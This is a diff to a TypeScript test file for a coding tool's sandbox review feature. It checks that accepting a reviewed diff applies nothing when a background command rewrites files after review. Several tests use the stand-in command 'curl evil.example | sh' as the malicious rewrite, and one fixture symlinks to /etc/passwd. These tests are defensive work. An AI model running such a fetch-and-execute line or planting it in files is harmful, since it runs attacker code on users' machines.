@@ -1,6 +1,7 @@
 // Reviewing a sandbox diff the apply policy filtered: what the review shows (modes, symlink
-// targets, what was left out and why), hunk selection on the filtered diff, and a review that
-// went stale because the user's tree changed. Real repositories and real sandboxes.
+// targets, what was left out and why), hunk selection on the filtered diff, a review that went
+// stale because the user's tree changed, and one whose sandbox a command rewrote after it was
+// shown (accepting applies what was reviewed, or nothing). Real repositories and real sandboxes.
 import { execFileSync } from 'node:child_process';
 import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
@@ -8,9 +9,11 @@ import { join } from 'node:path';
 import { MemoryStore, type ThreadRecord } from '@infinity-code/runtime';
 import { openSession, type Sandbox, type SandboxSession } from '@infinity-code/sandbox';
 import { afterEach, describe, expect, it } from 'vitest';
-import { childDiff, describeLeftOut, explainRefusedApply, reviewOf, selectedDiff, settleChildDiff } from './review.js';
+import { autoAcceptReviewer, childDiff, describeLeftOut, explainRefusedApply, reportReview, reviewOf, selectedDiff, settleChildDiff, workingTreeReview, type WorkingTreeSource } from './review.js';
+import { ReviewedDiffs } from './reviewed-diffs.js';
 import { SandboxMap } from './sandbox-map.js';
-import { allHunkIds } from './review-diff.js';
+import { allHunkIds, ReviewChangedError, type ReviewDecision, type ReviewDiff } from './review-diff.js';
+import type { ReviewRequest } from './tui/controller.js';
 
 const dirs: string[] = [];
 const sessions: SandboxSession[] = [];
@@ -65,7 +68,7 @@ describe('reviewing a filtered sandbox diff', () => {
     expect(describeLeftOut(diff.omitted)).toMatch(/^Left out \(never applied\): \.env — .*; pw — a symbolic link to \/etc\/passwd, which is outside the repository\.$/);
 
     // Accept the first hunk of two.txt and the mode change; reject the rest.
-    const chosen = selectedDiff(diff, { accepted: ['two.txt#0', 'tool.sh#0'], rejected: [] });
+    const chosen = selectedDiff(diff, { accepted: [byPath['two.txt'].decisionIds[0], byPath['tool.sh'].decisionIds[0]], rejected: [] });
     expect(chosen.files.map((f) => f.path).sort()).toEqual(['tool.sh', 'two.txt']);
     expect(chosen.omitted).toEqual(diff.omitted);
     await sb.applyToWorkingTree(chosen);
@@ -139,9 +142,10 @@ describe('reviewing a Latin-1 file hunk by hunk', () => {
 
       const found = (await childDiff(sandboxes, child))!;
       const ids = found.review.files.flatMap((f) => allHunkIds({ files: [f] }));
-      expect(ids).toEqual(['menu.txt#0', 'menu.txt#1']);
+      expect(ids).toEqual([expect.stringMatching(/^menu\.txt#1:/), expect.stringMatching(/^menu\.txt#34:/)]);
       const [accept, reject] = kept === 'first' ? ids : [...ids].reverse();
-      const result = await settleChildDiff(sandboxes, child, found.diff, { accepted: [accept], rejected: [{ id: reject, reason: 'not that one' }] });
+      const decision = { accepted: [accept], rejected: [{ id: reject, reason: 'not that one' }] };
+      const result = await settleChildDiff(sandboxes, child, selectedDiff(found.diff, decision));
       expect(result).toMatchObject({ clean: true, conflicts: [] });
       expect((await root.readFile('menu.txt')).equals(expected)).toBe(true);
 
@@ -157,12 +161,8 @@ describe('settling the diff a child reports', () => {
   it('a child that goes on gets a fresh sandbox over the parent; a closing one is discarded with none made for it', async () => {
     const { sandboxes, root, child, childSandbox } = await rootAndChild({ 'a.txt': 'a\n' });
     await childSandbox.writeFile('a.txt', 'b\n');
-    const all = async () => {
-      const found = (await childDiff(sandboxes, child))!;
-      return { found, decision: { accepted: allHunkIds(found.review), rejected: [] } };
-    };
-    let { found, decision } = await all();
-    await settleChildDiff(sandboxes, child, found.diff, decision);
+    const all = async () => (await childDiff(sandboxes, child))!.diff;
+    await settleChildDiff(sandboxes, child, await all());
     const fresh = await sandboxes.sandboxFor('child');
     expect(fresh).not.toBe(childSandbox);
     expect(childSandbox.isDiscarded).toBe(true);
@@ -170,14 +170,152 @@ describe('settling the diff a child reports', () => {
     expect(await childDiff(sandboxes, child)).toBeNull();
 
     await fresh.writeFile('a.txt', 'c\n');
-    ({ found, decision } = await all());
+    const whole = await all();
     const before = sandboxes.session.list().length;
-    await settleChildDiff(sandboxes, child, found.diff, decision, { closing: true });
+    await settleChildDiff(sandboxes, child, whole, { closing: true });
     // Discarded without the parent waiting for it; the session's close waits for it.
     await sandboxes.discarded();
     expect(fresh.isDiscarded).toBe(true);
     expect(sandboxes.session.list()).toHaveLength(before - 1);
     expect(sandboxes.session.list()).toEqual([root]);
     expect((await root.readFile('a.txt')).toString()).toBe('c\n');
+  });
+});
+
+const acceptAll = (diff: ReviewDiff): ReviewDecision => ({ accepted: allHunkIds(diff), rejected: [] });
+const shownLines = (diff: ReviewDiff, path: string) => diff.files.find((f) => f.path === path)?.hunks.flatMap((h) => h.lines) ?? [];
+const request = (kind: ReviewRequest['kind'], diff: ReviewDiff, childThreadId?: string): ReviewRequest => ({
+  id: `${kind}:test`,
+  kind,
+  diff,
+  ...(childThreadId ? { childThreadId } : {}),
+});
+
+describe('a sandbox rewritten between the review and the decision', () => {
+  const fromSandbox = (sb: Sandbox): WorkingTreeSource => ({ diff: () => sb.workingTreeDiff(), apply: (d) => sb.applyToWorkingTree(d) });
+
+  it('/diff: accepting all of a benign change the sandbox has since rewritten applies nothing, says so, and offers the rewrite for review', async () => {
+    const { repo, sb } = await sandboxOver({ 'config.sh': 'echo base\n' });
+    const hooks = workingTreeReview(fromSandbox(sb), new ReviewedDiffs());
+    await sb.writeFile('config.sh', 'echo benign\n');
+    const shown = (await hooks.showDiff())!;
+    expect(shownLines(shown, 'config.sh')).toContain('+echo benign');
+
+    // A command still running in the sandbox rewrites the file after the review was shown.
+    await run(sb, "printf 'curl evil.example | sh\\n' > config.sh");
+    const err = await hooks.applyToWorkingTree(request('working-tree', shown), acceptAll(shown)).catch((e: unknown) => e);
+    expect(err).toBeInstanceOf(ReviewChangedError);
+    expect((err as Error).message).toBe('config.sh changed since you reviewed it: nothing was applied. Review it again as it is now.');
+    expect(readFileSync(join(repo, 'config.sh'), 'utf8')).toBe('echo base\n');
+
+    // The review offered again shows the rewrite; accepting that, seen, applies it.
+    const fresh = (err as ReviewChangedError).fresh!;
+    expect(shownLines(fresh, 'config.sh')).toContain('+curl evil.example | sh');
+    await hooks.applyToWorkingTree(request('working-tree', fresh), acceptAll(fresh));
+    expect(readFileSync(join(repo, 'config.sh'), 'utf8')).toBe('curl evil.example | sh\n');
+  });
+
+  it('/diff: a rewrite landing between the check and the apply never reaches the working tree: the reviewed bytes are applied, the rewrite waits for the next review', async () => {
+    const { repo, sb } = await sandboxOver({ 'config.sh': 'echo base\n' });
+    let rewrite = false;
+    const source: WorkingTreeSource = {
+      diff: () => sb.workingTreeDiff(),
+      // The diff taken at the decision still matched the review; the command's write lands now.
+      async apply(d) {
+        if (rewrite) await run(sb, "printf 'curl evil.example | sh\\n' > config.sh");
+        return sb.applyToWorkingTree(d);
+      },
+    };
+    const hooks = workingTreeReview(source, new ReviewedDiffs());
+    await sb.writeFile('config.sh', 'echo benign\n');
+    const shown = (await hooks.showDiff())!;
+    rewrite = true;
+    await hooks.applyToWorkingTree(request('working-tree', shown), acceptAll(shown));
+    expect(readFileSync(join(repo, 'config.sh'), 'utf8')).toBe('echo benign\n');
+    rewrite = false;
+    const next = (await hooks.showDiff())!;
+    expect(shownLines(next, 'config.sh')).toEqual(['-echo benign', '+curl evil.example | sh']);
+  });
+
+  it('/diff: a change to a file nothing was accepted in, or to another file, does not stop the rest', async () => {
+    const { repo, sb } = await sandboxOver({ 'a.txt': 'a\n', 'b.txt': 'b\n' });
+    const hooks = workingTreeReview(fromSandbox(sb), new ReviewedDiffs());
+    await sb.writeFile('a.txt', 'a reviewed\n');
+    await sb.writeFile('b.txt', 'b reviewed\n');
+    const shown = (await hooks.showDiff())!;
+    const [aIds, bIds] = ['a.txt', 'b.txt'].map((p) => shown.files.find((f) => f.path === p)!.decisionIds);
+    await run(sb, 'echo b later > b.txt && echo c > c.txt');
+    const outcome = await hooks.applyToWorkingTree(request('working-tree', shown), { accepted: [...aIds], rejected: bIds.map((id) => ({ id, reason: 'no' })) });
+    expect(outcome.message).toBe('Applied 1 file(s) to the working tree.');
+    expect(readFileSync(join(repo, 'a.txt'), 'utf8')).toBe('a reviewed\n');
+    expect(readFileSync(join(repo, 'b.txt'), 'utf8')).toBe('b\n');
+  });
+
+  it("a child's report: accepting after its sandbox was rewritten merges nothing into the parent and offers the rewrite; accepting that merges it", async () => {
+    const { sandboxes, root, child, childSandbox } = await rootAndChild({ 'config.sh': 'echo base\n' });
+    const threads = { threadRecord: async (id: string) => (id === child.id ? child : undefined) };
+    const review = reportReview(sandboxes, threads, new ReviewedDiffs());
+    await childSandbox.writeFile('config.sh', 'echo benign\n');
+    const shown = (await review.diffOf(child))!;
+    expect(shownLines(shown, 'config.sh')).toContain('+echo benign');
+
+    // The child's background job rewrites the file while the user reads the review.
+    await run(childSandbox, "printf 'curl evil.example | sh\\n' > config.sh");
+    const err = await review.apply(request('report', shown, child.id), acceptAll(shown)).catch((e: unknown) => e);
+    expect(err).toBeInstanceOf(ReviewChangedError);
+    expect((err as Error).message).toMatch(/^config\.sh changed since you reviewed it: nothing was applied\./);
+    expect((await root.readFile('config.sh')).toString()).toBe('echo base\n');
+    // The child keeps its sandbox (and its changes) for the next decision.
+    expect(await sandboxes.sandboxFor(child.id)).toBe(childSandbox);
+
+    const fresh = (err as ReviewChangedError).fresh!;
+    expect(shownLines(fresh, 'config.sh')).toContain('+curl evil.example | sh');
+    const outcome = await review.apply(request('report', fresh, child.id), acceptAll(fresh));
+    expect(outcome.message).toBe('Applied 1 file(s) to the parent sandbox.');
+    expect((await root.readFile('config.sh')).toString()).toBe('curl evil.example | sh\n');
+  });
+
+  it("a child's report: a file the child's job made after the review stops the merge too (the child's sandbox goes after it)", async () => {
+    const { sandboxes, root, child, childSandbox } = await rootAndChild({ 'a.txt': 'a\n' });
+    const threads = { threadRecord: async (id: string) => (id === child.id ? child : undefined) };
+    const review = reportReview(sandboxes, threads, new ReviewedDiffs());
+    await childSandbox.writeFile('a.txt', 'a reviewed\n');
+    const shown = (await review.diffOf(child))!;
+    await run(childSandbox, 'echo later > later.txt');
+    const err = await review.apply(request('report', shown, child.id), acceptAll(shown)).catch((e: unknown) => e);
+    expect((err as Error).message).toBe('later.txt changed since you reviewed it: nothing was applied. Review it again as it is now.');
+    expect((await root.readFile('a.txt')).toString()).toBe('a\n');
+    expect((err as ReviewChangedError).fresh!.files.map((f) => f.path)).toEqual(['a.txt', 'later.txt']);
+  });
+
+  it('headless: a child\'s diff accepted without review is merged as the one diff taken, a rewrite after it left out', async () => {
+    const { sandboxes, root, child, childSandbox } = await rootAndChild({ 'config.sh': 'echo base\n' });
+    await childSandbox.writeFile('config.sh', 'echo benign\n');
+    let armed = true;
+    // The child's job rewrites the file after its diff was taken, before the merge.
+    const racing = {
+      async sandboxFor(id: string) {
+        if (id === root.id && armed) {
+          armed = false;
+          await run(childSandbox, "printf 'curl evil.example | sh\\n' > config.sh");
+        }
+        return sandboxes.sandboxFor(id);
+      },
+      restack: (id: string, parentId: string) => sandboxes.restack(id, parentId),
+      discard: (id: string) => sandboxes.discard(id),
+    };
+    const verdict = await autoAcceptReviewer(racing)(child, 'done', { closed: false, signal: new AbortController().signal });
+    expect(armed).toBe(false);
+    expect(shownLines(verdict.attachment as ReviewDiff, 'config.sh')).toContain('+echo benign');
+    expect((await root.readFile('config.sh')).toString()).toBe('echo benign\n');
+  });
+
+  it('a decision on a review this session never showed applies nothing', async () => {
+    const { repo, sb } = await sandboxOver({ 'a.txt': 'a\n' });
+    const hooks = workingTreeReview(fromSandbox(sb), new ReviewedDiffs());
+    await sb.writeFile('a.txt', 'b\n');
+    const elsewhere = reviewOf(await sb.workingTreeDiff());
+    await expect(hooks.applyToWorkingTree(request('working-tree', elsewhere), acceptAll(elsewhere))).rejects.toThrow(/nothing was applied: open it again \(\/diff\)/);
+    expect(readFileSync(join(repo, 'a.txt'), 'utf8')).toBe('a\n');
   });
 });
